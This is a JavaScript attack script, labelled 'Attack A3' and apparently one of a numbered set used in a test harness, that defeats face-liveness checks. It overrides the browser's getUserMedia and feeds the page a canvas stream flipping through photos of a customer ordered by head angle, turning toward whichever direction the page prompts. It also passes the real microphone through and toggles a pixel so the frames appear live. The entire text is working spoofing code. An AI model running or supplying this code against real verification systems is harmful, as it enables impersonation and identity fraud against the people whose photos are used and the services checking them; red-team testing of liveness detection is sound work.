// Attack A3: a flipbook. Many photos of the customer, ordered by the yaw
// measured on each, are flipped through towards the prompted side and
// back, one every 100 ms, so the pose sweeps through the angles between.
(() => {
  const photos = %PHOTOS%; // [{src, yaw, mirror}], sorted by yaw
  for (const p of photos) { p.img = new Image(); p.img.src = p.src; }
  const real = navigator.mediaDevices.getUserMedia.bind(navigator.mediaDevices);
  navigator.mediaDevices.getUserMedia = async (want) => {
    const canvas = document.createElement('canvas');
    canvas.width = 640;
    canvas.height = 480;
    const g = canvas.getContext('2d');
    const centre = photos.reduce((b, p, i) => (Math.abs(p.yaw) < Math.abs(photos[b].yaw) ? i : b), 0);
    let at = centre, last = 0, n = 0;
    const draw = () => {
      const prompt = (document.body && document.body.dataset.prompt) || 'center';
      const goal = prompt === 'left' ? photos.length - 1 : prompt === 'right' ? 0 : centre;
      const now = performance.now();
      if (now - last >= 100 && at !== goal) { at += Math.sign(goal - at); last = now; }
      const p = photos[at];
      g.fillStyle = '#55606b';
      g.fillRect(0, 0, 640, 480);
      if (p.img.complete && p.img.naturalWidth) {
        const h = 420, w = p.img.naturalWidth * h / p.img.naturalHeight, x = (640 - w) / 2;
        g.save();
        if (p.mirror) { g.translate(640, 0); g.scale(-1, 1); }
        g.drawImage(p.img, x, 30, w, h);
        g.restore();
      }
      g.fillStyle = (n++ % 2) ? '#56616c' : '#55606b';
      g.fillRect(0, 0, 4, 4);
    };
    setInterval(draw, 66);
    const stream = canvas.captureStream(15);
    if (want && want.audio) {
      const mic = await real({ audio: true });
      for (const t of mic.getAudioTracks()) stream.addTrack(t);
    }
    return stream;
  };
})();
